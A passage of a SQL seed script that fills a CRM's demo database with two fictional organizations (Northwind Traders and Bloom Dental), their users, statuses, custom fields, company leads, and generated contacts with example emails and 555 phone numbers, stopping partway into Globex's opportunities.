-- demo.sql: the demo data of `make run` (product.md U5, README "Demo logins").
--
-- Loaded once into an empty, migrated database by `scripts/stack seed`, which
-- pipes into `mariadb leadline` first `SET @demo_password = '<argon2id hash>';`,
-- then the output of sql/demo-files.sh (one `SET @f_<name>_sha = ..., @f_<name>_size = ...;`
-- per file of sql/demo-files/, already copied into the content store), then this file.
--
-- Two organizations:
--   Northwind Traders (b2b, growth): ada (admin), ben (user), dan (deactivated);
--     34 company leads, among them "Globex Corporation" (hundreds of activities of
--     every type in English, German and Spanish, files, pinned notes, opportunities,
--     tasks, a value for every custom field type, two custom activity types) and
--     "Initech (archive)" (exactly 100,000 activities over ten years).
--   Bloom Dental (b2c, essentials): cora (admin); patients, one contact each,
--     named as the lead.
-- Times are UTC and relative to the moment of loading, so "overdue", "a few
-- days ago" and "due next week" stay true whenever the demo is loaded.
-- Everything is one transaction: a failure leaves the database empty.

SET NAMES utf8mb4 COLLATE utf8mb4_unicode_ci;
-- Strict, and backslash escapes on: '\n' in the texts below is a newline.
SET SESSION sql_mode = 'STRICT_TRANS_TABLES,ERROR_FOR_DIVISION_BY_ZERO,NO_ENGINE_SUBSTITUTION';
SET @now = UTC_TIMESTAMP(), @today = UTC_DATE();
-- Midnight UTC today; history times are this minus days plus a time of day
-- (mostly 13:00-18:00 UTC: business hours in New York, Berlin and Madrid).
SET @day0 = CAST(@today AS DATETIME);

START TRANSACTION;

-- ---------------------------------------------------------------------------
-- Organizations, users, memberships
-- ---------------------------------------------------------------------------

INSERT INTO organizations (pid, name, plan, lead_mode, date_created)
VALUES (ll_id('orga_'), 'Northwind Traders', 'growth', 'b2b', @now - INTERVAL 1100 DAY);
SET @nw = LAST_INSERT_ID();
INSERT INTO organizations (pid, name, plan, lead_mode, date_created)
VALUES (ll_id('orga_'), 'Bloom Dental', 'essentials', 'b2c', @now - INTERVAL 400 DAY);
SET @bd = LAST_INSERT_ID();

INSERT INTO users (pid, name, email, password_hash, time_zone, active, date_created)
VALUES (ll_id('user_'), 'Ada Lovelace', 'ada@northwind.test', @demo_password, 'America/New_York', 1, @now - INTERVAL 1100 DAY);
SET @ada = LAST_INSERT_ID();
INSERT INTO users (pid, name, email, password_hash, time_zone, active, date_created)
VALUES (ll_id('user_'), 'Ben Okafor', 'ben@northwind.test', @demo_password, 'Europe/Berlin', 1, @now - INTERVAL 900 DAY);
SET @ben = LAST_INSERT_ID();
INSERT INTO users (pid, name, email, password_hash, time_zone, active, date_created)
VALUES (ll_id('user_'), 'Dan Brooks', 'dan@northwind.test', @demo_password, 'America/Chicago', 0, @now - INTERVAL 1090 DAY);
SET @dan = LAST_INSERT_ID();
INSERT INTO users (pid, name, email, password_hash, time_zone, active, date_created)
VALUES (ll_id('user_'), 'Cora Lindqvist', 'cora@bloomdental.test', @demo_password, 'America/Los_Angeles', 1, @now - INTERVAL 400 DAY);
SET @cora = LAST_INSERT_ID();

INSERT INTO memberships (organization_id, user_id, role, active, date_created) VALUES
  (@nw, @ada, 'admin', 1, @now - INTERVAL 1100 DAY),
  (@nw, @ben, 'user', 1, @now - INTERVAL 900 DAY),
  (@nw, @dan, 'user', 0, @now - INTERVAL 1090 DAY),
  (@bd, @cora, 'admin', 1, @now - INTERVAL 400 DAY);

-- ---------------------------------------------------------------------------
-- Lead and opportunity statuses (position order)
-- ---------------------------------------------------------------------------

INSERT INTO lead_statuses (pid, organization_id, label, position) VALUES
  (ll_id('stat_'), @nw, 'Potential', 1),
  (ll_id('stat_'), @nw, 'Bad Fit', 2),
  (ll_id('stat_'), @nw, 'Qualified', 3),
  (ll_id('stat_'), @nw, 'Customer', 4),
  (ll_id('stat_'), @nw, 'Archived', 5),
  (ll_id('stat_'), @bd, 'New Patient', 1),
  (ll_id('stat_'), @bd, 'Booked', 2),
  (ll_id('stat_'), @bd, 'Active', 3),
  (ll_id('stat_'), @bd, 'Lapsed', 4);

INSERT INTO opportunity_statuses (pid, organization_id, label, type, position) VALUES
  (ll_id('stat_'), @nw, 'Active', 'active', 1),
  (ll_id('stat_'), @nw, 'Proposal Sent', 'active', 2),
  (ll_id('stat_'), @nw, 'Negotiation', 'active', 3),
  (ll_id('stat_'), @nw, 'Won', 'won', 4),
  (ll_id('stat_'), @nw, 'Lost', 'lost', 5),
  (ll_id('stat_'), @bd, 'Active', 'active', 1),
  (ll_id('stat_'), @bd, 'Proposal Sent', 'active', 2),
  (ll_id('stat_'), @bd, 'Negotiation', 'active', 3),
  (ll_id('stat_'), @bd, 'Won', 'won', 4),
  (ll_id('stat_'), @bd, 'Lost', 'lost', 5);

SET @ls_potential = (SELECT id FROM lead_statuses WHERE organization_id = @nw AND label = 'Potential');
SET @ls_badfit    = (SELECT id FROM lead_statuses WHERE organization_id = @nw AND label = 'Bad Fit');
SET @ls_qualified = (SELECT id FROM lead_statuses WHERE organization_id = @nw AND label = 'Qualified');
SET @ls_customer  = (SELECT id FROM lead_statuses WHERE organization_id = @nw AND label = 'Customer');
SET @ls_archived  = (SELECT id FROM lead_statuses WHERE organization_id = @nw AND label = 'Archived');
SET @os_active    = (SELECT id FROM opportunity_statuses WHERE organization_id = @nw AND label = 'Active');
SET @os_proposal  = (SELECT id FROM opportunity_statuses WHERE organization_id = @nw AND label = 'Proposal Sent');
SET @os_negot     = (SELECT id FROM opportunity_statuses WHERE organization_id = @nw AND label = 'Negotiation');
SET @os_won       = (SELECT id FROM opportunity_statuses WHERE organization_id = @nw AND label = 'Won');
SET @os_lost      = (SELECT id FROM opportunity_statuses WHERE organization_id = @nw AND label = 'Lost');
SET @bls_new      = (SELECT id FROM lead_statuses WHERE organization_id = @bd AND label = 'New Patient');
SET @bls_booked   = (SELECT id FROM lead_statuses WHERE organization_id = @bd AND label = 'Booked');
SET @bls_active   = (SELECT id FROM lead_statuses WHERE organization_id = @bd AND label = 'Active');
SET @bls_lapsed   = (SELECT id FROM lead_statuses WHERE organization_id = @bd AND label = 'Lapsed');
SET @bos_active   = (SELECT id FROM opportunity_statuses WHERE organization_id = @bd AND label = 'Active');
SET @bos_proposal = (SELECT id FROM opportunity_statuses WHERE organization_id = @bd AND label = 'Proposal Sent');
SET @bos_won      = (SELECT id FROM opportunity_statuses WHERE organization_id = @bd AND label = 'Won');

-- ---------------------------------------------------------------------------
-- Custom fields (one of every type in Northwind) and custom activity types
-- ---------------------------------------------------------------------------

INSERT INTO custom_fields (pid, organization_id, name, type, accepts_multiple, choices, position) VALUES
  (ll_id('cf_'), @nw, 'Industry', 'choices', 0,
   'Manufacturing\nRetail\nLogistics\nHealthcare\nSoftware\nFinancial Services\nHospitality\nEducation\nEnergy\nConstruction', 1),
  (ll_id('cf_'), @nw, 'Products of Interest', 'choices', 1,
   'Core CRM\nAnalytics\nAPI Access\nPremium Support\nTraining', 2),
  (ll_id('cf_'), @nw, 'Employees', 'number', 0, NULL, 3),
  (ll_id('cf_'), @nw, 'Referral Source', 'text', 0, NULL, 4),
  (ll_id('cf_'), @nw, 'Account Notes', 'textarea', 0, NULL, 5),
  (ll_id('cf_'), @nw, 'Contract Renewal', 'date', 0, NULL, 6),
  (ll_id('cf_'), @nw, 'Next Business Review', 'datetime', 0, NULL, 7),
  (ll_id('cf_'), @nw, 'Account Manager', 'user', 0, NULL, 8),
  (ll_id('cf_'), @nw, 'Customer Portal', 'url', 0, NULL, 9),
  (ll_id('cf_'), @bd, 'Insurance Provider', 'choices', 0,
   'Delta Dental\nCigna\nAetna\nMetLife\nSelf-pay', 1),
  (ll_id('cf_'), @bd, 'Last Cleaning', 'date', 0, NULL, 2),
  (ll_id('cf_'), @bd, 'Preferred Dentist', 'text', 0, NULL, 3);

SET @cf_industry = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Industry');
SET @cf_products = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Products of Interest');
SET @cf_employees = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Employees');
SET @cf_referral = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Referral Source');
SET @cf_notes = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Account Notes');
SET @cf_renewal = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Contract Renewal');
SET @cf_review = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Next Business Review');
SET @cf_manager = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Account Manager');
SET @cf_portal = (SELECT id FROM custom_fields WHERE organization_id = @nw AND name = 'Customer Portal');
SET @bcf_insurance = (SELECT id FROM custom_fields WHERE organization_id = @bd AND name = 'Insurance Provider');
SET @bcf_cleaning = (SELECT id FROM custom_fields WHERE organization_id = @bd AND name = 'Last Cleaning');
SET @bcf_dentist = (SELECT id FROM custom_fields WHERE organization_id = @bd AND name = 'Preferred Dentist');

INSERT INTO custom_activity_types (pid, organization_id, name, description)
VALUES (ll_id('actitype_'), @nw, 'Site Visit', 'A visit at the customer''s site: where, how it went, what we saw.');
SET @at_visit = LAST_INSERT_ID();
INSERT INTO custom_activity_types (pid, organization_id, name, description)
VALUES (ll_id('actitype_'), @nw, 'Demo Feedback', 'What the customer said after a product demo.');
SET @at_demo = LAST_INSERT_ID();

INSERT INTO custom_activity_fields (pid, organization_id, type_id, name, field_type, choices, position) VALUES
  (ll_id('cf_'), @nw, @at_visit, 'Site', 'text', NULL, 1),
  (ll_id('cf_'), @nw, @at_visit, 'Outcome', 'choices', 'Positive\nNeutral\nNegative', 2),
  (ll_id('cf_'), @nw, @at_visit, 'Observations', 'textarea', NULL, 3),
  (ll_id('cf_'), @nw, @at_demo, 'Rating', 'number', NULL, 1),
  (ll_id('cf_'), @nw, @at_demo, 'Module Shown', 'choices', 'Pipeline\nReporting\nSequences\nMobile app\nAPI', 2),
  (ll_id('cf_'), @nw, @at_demo, 'Follow-up Date', 'date', NULL, 3);

SET @af_site = (SELECT id FROM custom_activity_fields WHERE type_id = @at_visit AND name = 'Site');
SET @af_outcome = (SELECT id FROM custom_activity_fields WHERE type_id = @at_visit AND name = 'Outcome');
SET @af_obs = (SELECT id FROM custom_activity_fields WHERE type_id = @at_visit AND name = 'Observations');
SET @af_rating = (SELECT id FROM custom_activity_fields WHERE type_id = @at_demo AND name = 'Rating');
SET @af_module = (SELECT id FROM custom_activity_fields WHERE type_id = @at_demo AND name = 'Module Shown');
SET @af_followup = (SELECT id FROM custom_activity_fields WHERE type_id = @at_demo AND name = 'Follow-up Date');

-- ---------------------------------------------------------------------------
-- Northwind leads (companies). no 1 = Globex, no 2 = Initech (archive); their
-- contacts are written out below, the others' contacts are made from name pools.
-- ---------------------------------------------------------------------------

CREATE TEMPORARY TABLE demo_nw (
  no INT PRIMARY KEY, name VARCHAR(255), url VARCHAR(255), industry VARCHAR(40),
  country CHAR(2), status VARCHAR(20), employees INT, description TEXT
);
INSERT INTO demo_nw VALUES
 (1, 'Globex Corporation', 'https://globex.example', 'Manufacturing', 'US', 'Customer', 4200,
  'Diversified maker of industrial automation and household products. Headquarters in Springfield, subsidiaries Globex GmbH (Munich) and Globex Ibérica (Madrid). Customer since the Springfield rollout; now expanding the CRM to the EMEA offices.'),
 (2, 'Initech (archive)', 'https://initech.example', 'Software', 'US', 'Archived', 600,
  'Former customer. Ten years of history imported from the old CRM when the account was closed; kept for reference.'),
 (3, 'Acme Logistics', 'https://acme-logistics.example', 'Logistics', 'US', 'Qualified', 850,
  'Regional trucking and warehousing on the East Coast. Replacing a homegrown CRM.'),
 (4, 'Blue Harbor Foods', 'https://blueharborfoods.example', 'Retail', 'US', 'Potential', 320,
  'Seafood wholesaler supplying restaurants in New England.'),
 (5, 'Cascade Outdoor Supply', 'https://cascadeoutdoor.example', 'Retail', 'US', 'Customer', 140,
  'Outdoor gear retailer with six stores in Oregon and Washington.'),
 (6, 'Dunmore Paper Company', 'https://dunmorepaper.example', 'Manufacturing', 'US', 'Potential', 210,
  'Paper and office supplies distributor. Small sales team, price sensitive.'),
 (7, 'Evergreen Health Partners', 'https://evergreenhealth.example', 'Healthcare', 'US', 'Qualified', 1900,
  'Network of outpatient clinics. Needs HIPAA review before any purchase.'),
 (8, 'Falcon Ridge Construction', 'https://falconridge.example', 'Construction', 'US', 'Bad Fit', 75,
  'General contractor. Wanted project management software rather than a CRM.'),
 (9, 'Granite State Insurance', 'https://granitestate-ins.example', 'Financial Services', 'US', 'Potential', 460,
  'Independent insurance agency group in New Hampshire.'),
 (10, 'Helios Solar Systems', 'https://heliossolar.example', 'Energy', 'US', 'Qualified', 380,
  'Residential and commercial solar installer, fast-growing inside sales team.'),
 (11, 'Kestrel Aviation Services', 'https://kestrelaviation.example', 'Logistics', 'US', 'Potential', 260,
  'Aircraft maintenance and charter operations.'),
 (12, 'Lumen Labs', 'https://lumenlabs.example', 'Software', 'US', 'Customer', 90,
  'Developer tools startup, uses the API heavily.'),
 (13, 'Meridian Hotels Group', 'https://meridianhotels.example', 'Hospitality', 'US', 'Qualified', 2400,
  'Boutique hotel chain; the group sales team sells conference packages.'),
 (14, 'Northstar Analytics', 'https://northstar-analytics.example', 'Software', 'US', 'Potential', 55,
  'Data consultancy; possible partner as well as customer.'),
 (15, 'Oakline Furniture', 'https://oakline.example', 'Manufacturing', 'US', 'Customer', 530,
  'Office furniture manufacturer selling through dealers.'),
 (16, 'Pioneer Freight Lines', 'https://pioneerfreight.example', 'Logistics', 'US', 'Archived', 1200,
  'Went with a competitor two years ago. Archived.'),
 (17, 'Quarry Hill Brewing', 'https://quarryhill.example', 'Hospitality', 'US', 'Potential', 45,
  'Craft brewery with a growing distribution business.'),
 (18, 'Redwood Dental Supply', 'https://redwooddental.example', 'Healthcare', 'US', 'Bad Fit', 30,
  'Too small for now; revisit next year.'),
 (19, 'Silverline Textiles', 'https://silverline.example', 'Manufacturing', 'US', 'Qualified', 700,
  'Technical textiles; sales reps travel a lot, mobile app matters.'),
 (20, 'Tidewater Marine', 'https://tidewatermarine.example', 'Logistics', 'US', 'Potential', 180,
  'Marine equipment dealer in Virginia.'),
 (21, 'Vantage Point Realty', 'https://vantagepoint.example', 'Financial Services', 'US', 'Potential', 95,
  'Commercial real estate brokerage.'),
 (22, 'Westbrook School District', 'https://westbrook-schools.example', 'Education', 'US', 'Qualified', 3100,
  'Public school district; purchase needs a board vote.'),
 (23, 'Zephyr Wind Energy', 'https://zephyrwind.example', 'Energy', 'US', 'Customer', 640,
  'Wind farm developer; long sales cycles with landowners.'),
 (24, 'Bergmann Maschinenbau GmbH', 'https://bergmann-maschinenbau.example', 'Manufacturing', 'DE', 'Qualified', 900,
  'Sondermaschinenbau aus Stuttgart, Vertrieb in ganz Europa.'),
 (25, 'Hoffmann & Söhne KG', 'https://hoffmann-soehne.example', 'Retail', 'DE', 'Potential', 120,
  'Familienunternehmen, Großhandel für Haushaltswaren.'),
 (26, 'Nordlicht Versand GmbH', 'https://nordlicht-versand.example', 'Logistics', 'DE', 'Customer', 340,
  'Versandhändler aus Hamburg; nutzt das CRM für den Geschäftskundenvertrieb.'),
 (27, 'Alpenblick Hotels AG', 'https://alpenblick-hotels.example', 'Hospitality', 'DE', 'Potential', 800,
  'Hotelgruppe in Bayern und Tirol.'),
 (28, 'Distribuciones Ibéricas S.L.', 'https://distribuciones-ibericas.example', 'Logistics', 'ES', 'Qualified', 410,
  'Distribuidor de alimentación con almacenes en Valencia y Zaragoza.'),
 (29, 'Café Montaña S.A.', 'https://cafemontana.example', 'Retail', 'ES', 'Potential', 160,
  'Tostadores de café con tiendas propias en Madrid.'),
 (30, 'Clínica Sol y Mar', 'https://clinicasolymar.example', 'Healthcare', 'ES', 'Bad Fit', 60,
  'Clínica privada en Málaga; buscaban un software de citas, no un CRM.'),
 (31, 'Aurora Biotech', 'https://aurorabiotech.example', 'Healthcare', 'US', 'Qualified', 270,
  'Lab equipment and reagents; sells to universities.'),
 (32, 'Brightwater Pools', 'https://brightwaterpools.example', 'Construction', 'US', 'Potential', 85,
  'Pool construction and maintenance in Arizona.'),
 (33, 'Copperleaf Restaurants', 'https://copperleaf.example', 'Hospitality', 'US', 'Qualified', 1500,
  'Restaurant group; catering sales team of twelve.'),
 (34, 'Stonebridge Credit Union', 'https://stonebridge-cu.example', 'Financial Services', 'US', 'Potential', 350,
  'Member-owned credit union; business banking team is evaluating CRMs.');

INSERT INTO leads (pid, organization_id, name, url, description, status_id, created_by, updated_by, date_created, date_updated)
SELECT ll_id('lead_'), @nw, d.name, d.url, d.description, s.id,
       IF(d.no % 2, @ada, @ben), IF(d.no % 3, @ada, @ben),
       @now - INTERVAL (120 + d.no * 17) DAY,
       @now - INTERVAL (2 + d.no * 3) DAY
FROM demo_nw d
JOIN lead_statuses s ON s.organization_id = @nw AND s.label = d.status
ORDER BY d.no;

SET @globex = (SELECT id FROM leads WHERE organization_id = @nw AND name = 'Globex Corporation');
SET @initech = (SELECT id FROM leads WHERE organization_id = @nw AND name = 'Initech (archive)');
UPDATE leads SET date_created = @now - INTERVAL 740 DAY, created_by = @ada WHERE id = @globex;
UPDATE leads SET date_created = @now - INTERVAL 3700 DAY, created_by = @dan WHERE id = @initech;

-- Name pools for the contacts of the other companies, by country.
CREATE TEMPORARY TABLE demo_names (country CHAR(2), i INT, first VARCHAR(40), last VARCHAR(40), title VARCHAR(80),
  PRIMARY KEY (country, i));
INSERT INTO demo_names VALUES
 ('US', 0, 'James', 'Johnson', 'CEO'), ('US', 1, 'Olivia', 'Martinez', 'VP of Sales'),
 ('US', 2, 'Michael', 'Thompson', 'Head of Operations'), ('US', 3, 'Emma', 'Garcia', 'Procurement Manager'),
 ('US', 4, 'Robert', 'Robinson', 'IT Director'), ('US', 5, 'Sophia', 'Clark', 'Office Manager'),
 ('US', 6, 'William', 'Lewis', 'CFO'), ('US', 7, 'Ava', 'Walker', 'Sales Operations Lead'),
 ('US', 8, 'Daniel', 'Hall', 'Marketing Director'), ('US', 9, 'Mia', 'Young', 'Customer Success Manager'),
 ('US', 10, 'Christopher', 'Allen', 'COO'), ('US', 11, 'Chloe', 'King', 'Inside Sales Manager'),
 ('US', 12, 'Anthony', 'Wright', 'Purchasing Agent'), ('US', 13, 'Grace', 'Scott', 'Controller'),
 ('US', 14, 'Kevin', 'Green', 'Regional Sales Manager'), ('US', 15, 'Natalie', 'Baker', 'Executive Assistant'),
 ('DE', 0, 'Anna', 'Müller', 'Geschäftsführung'), ('DE', 1, 'Jürgen', 'Schmidt', 'Leitung Vertrieb'),
 ('DE', 2, 'Katrin', 'Schneider', 'Einkauf'), ('DE', 3, 'Matthias', 'Fischer', 'IT-Leitung'),
 ('DE', 4, 'Sabine', 'Meyer', 'Buchhaltung'), ('DE', 5, 'Stefan', 'Wagner', 'Projektmanagement'),
 ('DE', 6, 'Julia', 'Becker', 'Marketing'), ('DE', 7, 'Tobias', 'Schulz', 'Vertriebsinnendienst'),
 ('DE', 8, 'Claudia', 'Hoffmann', 'Assistenz der Geschäftsführung'), ('DE', 9, 'Florian', 'Koch', 'Key Account Management'),
 ('DE', 10, 'Monika', 'Richter', 'Personal'), ('DE', 11, 'Andreas', 'Klein', 'Logistik'),
 ('DE', 12, 'Petra', 'Wolf', 'Controlling'), ('DE', 13, 'Sebastian', 'Schröder', 'Außendienst'),
 ('DE', 14, 'Ulrike', 'Neumann', 'Kundenservice'), ('DE', 15, 'Jan', 'Zimmermann', 'Prokura'),
 ('ES', 0, 'María', 'García', 'Dirección General'), ('ES', 1, 'José', 'Fernández', 'Dirección Comercial'),
 ('ES', 2, 'Lucía', 'González', 'Compras'), ('ES', 3, 'Javier', 'Rodríguez', 'Responsable de IT'),
 ('ES', 4, 'Carmen', 'López', 'Administración'), ('ES', 5, 'Alejandro', 'Martínez', 'Operaciones'),
 ('ES', 6, 'Elena', 'Sánchez', 'Marketing'), ('ES', 7, 'Pablo', 'Pérez', 'Ventas'),
 ('ES', 8, 'Isabel', 'Gómez', 'Atención al Cliente'), ('ES', 9, 'Diego', 'Martín', 'Logística'),
 ('ES', 10, 'Marta', 'Jiménez', 'Finanzas'), ('ES', 11, 'Sergio', 'Ruiz', 'Jefe de Almacén'),
 ('ES', 12, 'Laura', 'Hernández', 'Recursos Humanos'), ('ES', 13, 'Andrés', 'Díaz', 'Delegado Comercial'),
 ('ES', 14, 'Paula', 'Moreno', 'Calidad'), ('ES', 15, 'Raúl', 'Álvarez', 'Gerencia');

-- 1 to 3 contacts per company: first name, last name and title come from
-- different pool rows, so names vary; the address is first.last@<domain>, ASCII-folded.
CREATE TEMPORARY TABLE demo_nwc (
  lead_id BIGINT UNSIGNED, no INT, k INT, country CHAR(2), name VARCHAR(255), title VARCHAR(255),
  local VARCHAR(120), domain VARCHAR(120), contact_id BIGINT UNSIGNED NULL, PRIMARY KEY (no, k)
);
INSERT INTO demo_nwc (lead_id, no, k, country, name, title, local, domain)
SELECT l.id, d.no, s.seq, d.country,
       CONCAT(f.first, ' ', g.last), t.title,
       REPLACE(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE(REPLACE(
         LOWER(CONCAT(f.first, '.', g.last)),
         'ä', 'ae'), 'ö', 'oe'), 'ü', 'ue'), 'ß', 'ss'), 'á', 'a'), 'é', 'e'), 'í', 'i'), 'ó', 'o'), 'ú', 'u'), 'ñ', 'n'),
       SUBSTRING_INDEX(SUBSTRING_INDEX(d.url, '://', -1), '/', 1)
FROM demo_nw d
JOIN leads l ON l.organization_id = @nw AND l.name = d.name
JOIN seq_1_to_3 s ON s.seq <= 1 + d.no % 3
JOIN demo_names f ON f.country = d.country AND f.i = (d.no * 7 + s.seq * 5) % 16
JOIN (SELECT country, i, last FROM demo_names) g ON g.country = d.country AND g.i = (d.no * 3 + s.seq * 11 + (d.no DIV 16) * 5) % 16
JOIN (SELECT country, i, title FROM demo_names) t ON t.country = d.country AND t.i = (d.no + s.seq * 6) % 16
WHERE d.no > 2;

INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
SELECT ll_id('cont_'), @nw, c.lead_id, c.name, c.title, @now - INTERVAL (100 + c.no * 17) DAY
FROM demo_nwc c ORDER BY c.no, c.k;
UPDATE demo_nwc c JOIN contacts ct ON ct.lead_id = c.lead_id AND ct.name = c.name SET c.contact_id = ct.id;

INSERT INTO contact_emails (organization_id, contact_id, email, type, position)
SELECT @nw, c.contact_id, CONCAT(c.local, '@', c.domain), 'office', 0 FROM demo_nwc c
UNION ALL
SELECT @nw, c.contact_id,
       IF(c.k = 1, CONCAT('info@', c.domain), CONCAT(SUBSTRING_INDEX(c.local, '.', 1), '@', c.domain)),
       IF(c.k = 1, 'other', 'direct'), 1
FROM demo_nwc c WHERE (c.no + c.k) % 3 = 0;

INSERT INTO contact_phones (organization_id, contact_id, phone, phone_digits, type, position)
SELECT @nw, p.contact_id, p.phone, REGEXP_REPLACE(p.phone, '[^0-9]', ''), p.type, p.position
FROM (
  SELECT c.contact_id, 'office' AS type, 0 AS position,
         CASE c.country
           WHEN 'US' THEN CONCAT('+1 (', ELT(c.no % 8 + 1, '212', '312', '415', '617', '206', '303', '512', '404'),
                                 ') 555-01', LPAD((c.no * 7 + c.k * 13) % 100, 2, '0'))
           WHEN 'DE' THEN CONCAT('+49 ', ELT(c.no % 4 + 1, '30', '40', '89', '711'), ' ',
                                 1200 + c.no * 31, ' ', 100 + c.k * 17)
           ELSE CONCAT('+34 ', ELT(c.no % 2 + 1, '91', '96'), ' 555 ', LPAD(c.no, 2, '0'), ' ', LPAD(c.k * 11, 2, '0'))
         END AS phone
  FROM demo_nwc c
  UNION ALL
  SELECT c.contact_id, 'mobile', 1,
         CASE c.country
           WHEN 'US' THEN CONCAT('+1 ', ELT(c.no % 3 + 1, '917', '646', '347'), '-555-02', LPAD((c.no * 3 + c.k) % 100, 2, '0'))
           WHEN 'DE' THEN CONCAT('+49 ', ELT(c.no % 3 + 1, '151', '160', '172'), ' ', 5550000 + c.no * 113 + c.k)
           ELSE CONCAT('+34 6', LPAD(c.no * 7 % 100, 2, '0'), ' 555 ', LPAD(c.k * 23, 3, '0'))
         END
  FROM demo_nwc c WHERE c.k = 1 OR c.no % 4 = 0
) p;

-- Globex: five contacts across the three offices (written out; the history refers to them).
INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
VALUES (ll_id('cont_'), @nw, @globex, 'Margaret Chen', 'VP Operations', @now - INTERVAL 740 DAY);
SET @c_margaret = LAST_INSERT_ID();
INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
VALUES (ll_id('cont_'), @nw, @globex, 'David Park', 'IT Director', @now - INTERVAL 700 DAY);
SET @c_david = LAST_INSERT_ID();
INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
VALUES (ll_id('cont_'), @nw, @globex, 'Priya Natarajan', 'Chief Financial Officer', @now - INTERVAL 650 DAY);
SET @c_priya = LAST_INSERT_ID();
INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
VALUES (ll_id('cont_'), @nw, @globex, 'Lukas Weber', 'Leiter Einkauf, Globex GmbH', @now - INTERVAL 600 DAY);
SET @c_lukas = LAST_INSERT_ID();
INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
VALUES (ll_id('cont_'), @nw, @globex, 'Sofía Ramírez', 'Directora Regional, Globex Ibérica', @now - INTERVAL 420 DAY);
SET @c_sofia = LAST_INSERT_ID();

SET @e_margaret = 'margaret.chen@globex.example', @e_david = 'david.park@globex.example',
    @e_priya = 'priya.natarajan@globex.example', @e_lukas = 'lukas.weber@globex.example',
    @e_sofia = 'sofia.ramirez@globex.example';
SET @p_margaret = '+1 (217) 555-0142', @p_david = '+1 (217) 555-0178', @p_priya = '+1 (217) 555-0110',
    @p_lukas = '+49 89 2190 4471', @p_sofia = '+34 91 555 28 40';
SET @m_margaret = '+1 (217) 555-0199', @m_david = '+1 (217) 555-0163',
    @m_lukas = '+49 171 5550832', @m_sofia = '+34 612 555 019';

INSERT INTO contact_emails (organization_id, contact_id, email, type, position) VALUES
  (@nw, @c_margaret, @e_margaret, 'office', 0),
  (@nw, @c_margaret, 'mchen.home@mailbox.example', 'home', 1),
  (@nw, @c_david, @e_david, 'office', 0),
  (@nw, @c_david, 'it-helpdesk@globex.example', 'other', 1),
  (@nw, @c_priya, @e_priya, 'office', 0),
  (@nw, @c_priya, 'accounts.payable@globex.example', 'other', 1),
  (@nw, @c_lukas, @e_lukas, 'office', 0),
  (@nw, @c_sofia, @e_sofia, 'office', 0),
  (@nw, @c_sofia, 'sofia.ramirez.m@correo.example', 'home', 1);
INSERT INTO contact_phones (organization_id, contact_id, phone, phone_digits, type, position) VALUES
  (@nw, @c_margaret, @p_margaret, REGEXP_REPLACE(@p_margaret, '[^0-9]', ''), 'office', 0),
  (@nw, @c_margaret, @m_margaret, REGEXP_REPLACE(@m_margaret, '[^0-9]', ''), 'mobile', 1),
  (@nw, @c_david, @p_david, REGEXP_REPLACE(@p_david, '[^0-9]', ''), 'direct', 0),
  (@nw, @c_david, @m_david, REGEXP_REPLACE(@m_david, '[^0-9]', ''), 'mobile', 1),
  (@nw, @c_priya, @p_priya, REGEXP_REPLACE(@p_priya, '[^0-9]', ''), 'office', 0),
  (@nw, @c_lukas, @p_lukas, REGEXP_REPLACE(@p_lukas, '[^0-9]', ''), 'office', 0),
  (@nw, @c_lukas, @m_lukas, REGEXP_REPLACE(@m_lukas, '[^0-9]', ''), 'mobile', 1),
  (@nw, @c_sofia, @p_sofia, REGEXP_REPLACE(@p_sofia, '[^0-9]', ''), 'office', 0),
  (@nw, @c_sofia, @m_sofia, REGEXP_REPLACE(@m_sofia, '[^0-9]', ''), 'mobile', 1);

-- Initech (archive): two contacts.
INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
VALUES (ll_id('cont_'), @nw, @initech, 'Joanna Morales', 'Office Manager', @now - INTERVAL 3700 DAY);
SET @c_joanna = LAST_INSERT_ID();
INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
VALUES (ll_id('cont_'), @nw, @initech, 'Tom Richter', 'Purchasing Lead', @now - INTERVAL 3700 DAY);
SET @c_tom = LAST_INSERT_ID();
SET @e_joanna = 'joanna.morales@initech.example', @e_tom = 'tom.richter@initech.example',
    @p_joanna = '+1 (512) 555-0134', @p_tom = '+1 (512) 555-0187';
INSERT INTO contact_emails (organization_id, contact_id, email, type, position) VALUES
  (@nw, @c_joanna, @e_joanna, 'office', 0),
  (@nw, @c_tom, @e_tom, 'office', 0),
  (@nw, @c_tom, 'purchasing@initech.example', 'other', 1);
INSERT INTO contact_phones (organization_id, contact_id, phone, phone_digits, type, position) VALUES
  (@nw, @c_joanna, @p_joanna, REGEXP_REPLACE(@p_joanna, '[^0-9]', ''), 'office', 0),
  (@nw, @c_tom, @p_tom, REGEXP_REPLACE(@p_tom, '[^0-9]', ''), 'direct', 0);

-- ---------------------------------------------------------------------------
-- Globex: opportunities (2 active, 1 won, 1 lost), tasks, custom field values
-- Values are in minor units: 4800000 = $48,000.00.
-- ---------------------------------------------------------------------------

INSERT INTO opportunities (pid, organization_id, lead_id, status_id, value, value_currency, value_period,
  confidence, expected_date, user_id, contact_id, note, date_created, date_updated)
VALUES (ll_id('oppo_'), @nw, @globex, @os_won, 3600000, 'USD', 'annual', 100, @today - INTERVAL 400 DAY,
  @ada, @c_priya, 'Initial contract: 90 seats Core CRM Growth for Springfield HQ, billed annually.',
  @now - INTERVAL 520 DAY, @now - INTERVAL 400 DAY);
SET @o_won = LAST_INSERT_ID();
INSERT INTO opportunities (pid, organization_id, lead_id, status_id, value, value_currency, value_period,
  confidence, expected_date, user_id, contact_id, note, date_created, date_updated)
